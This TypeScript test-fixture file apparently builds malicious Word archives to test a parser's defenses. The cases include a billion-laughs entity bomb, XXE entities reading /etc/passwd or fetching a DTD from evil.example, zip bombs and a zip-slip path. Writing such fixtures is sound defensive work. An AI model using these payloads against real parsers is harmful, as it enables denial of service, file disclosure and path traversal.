import { deflateRawSync } from 'node:zlib';
import { bodyOf, paragraph, part, wordFile } from './word';
import { zipOf } from './zip';

/** A part of an archive. */
export const entry = (name: string, data: Buffer | string, more: object = {}) => ({
  name,
  data: typeof data === 'string' ? Buffer.from(data) : data,
  ...more,
});
/** The same, packed, with what it says that it unpacks to. */
export const packed = (name: string, text: Buffer, said = text.length) =>
  entry(name, deflateRawSync(text), { size: said });

const WORD = wordFile(bodyOf(paragraph('Alpha.')));
/** The list of types of a Word document. */
export const TYPES =
  '<Types><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>';
const LAUGHS = `<!DOCTYPE a [<!ENTITY a "ha">${Array.from({ length: 9 }, (_, n) => `<!ENTITY a${n} "${`&a${n === 0 ? '' : n - 1};`.repeat(10)}">`).join('')}]>`;
const inBody = (doctype: string, inside: string): string =>
  bodyOf(paragraph(inside)).replace('?>', `?>${doctype}`);

/** Word documents that none is, or that are made to take all time and memory there is, or to reach elsewhere. */
export const DOCUMENTS: readonly (readonly [string, Buffer])[] = [
  ['whose entities become many', wordFile(inBody(LAUGHS, '&a8;'))],
  [
    'whose entities reach for a file',
    wordFile(inBody('<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>', '&x;')),
  ],
  [
    'whose styles reach for an address',
    wordFile(bodyOf(paragraph('a')), {
      more: [
        entry(
          'word/footnotes.xml',
          `<!DOCTYPE a SYSTEM "http://evil.example/x.dtd">${part('footnotes', '')}`,
        ),
      ],
    }),
  ],
  [
    'that hides a document type in another encoding',
    zipOf([
      entry('[Content_Types].xml', TYPES),
      entry('word/document.xml', Buffer.from(inBody(LAUGHS, '&a8;'), 'utf16le')),
    ]),
  ],
  [
    'that unpacks to more than it says',
    zipOf([
      entry('[Content_Types].xml', TYPES),
      packed('word/document.xml', Buffer.alloc(20_000_000, 'a'), 1_000),
    ]),
  ],
  [
    'that unpacks to more than a document has',
    zipOf([entry('[Content_Types].xml', TYPES), packed('word/document.xml', Buffer.alloc(30_000_000, 'a'))]),
  ],
  [
    'that unpacks to four gigabytes',
    zipOf([
      entry('[Content_Types].xml', TYPES),
      packed('word/document.xml', Buffer.alloc(1_000_000), 4_000_000_000),
    ]),
  ],
  [
    'of a hundred thousand entries',
    zipOf([
      entry('[Content_Types].xml', TYPES),
      entry('word/document.xml', 'x'),
      ...Array.from({ length: 100_000 }, (_, n) => entry(`word/${n}`, '')),
    ]),
  ],
  [
    'whose entries share their bytes',
    zipOf([
      entry('[Content_Types].xml', TYPES),
      packed('word/document.xml', Buffer.alloc(1_000_000)),
      ...Array.from({ length: 2_000 }, (_, n) => entry(`word/media/${n}`, '', { over: 'word/document.xml' })),
    ]),
  ],
  [
    'that holds one part twice',
    zipOf([
      entry('[Content_Types].xml', TYPES),
      entry('word/document.xml', 'x'),
      entry('WORD/document.xml', 'y'),
    ]),
  ],
  [
    'that names a place outside',
    zipOf([
      entry('[Content_Types].xml', TYPES),
      entry('word/document.xml', bodyOf('')),
      entry('../../etc/passwd', 'x'),
    ]),
  ],
  ['that is cut off', WORD.subarray(0, WORD.length - 30)],
  ['whose XML does not close', wordFile('<w:document><w:body><w:p>')],
];
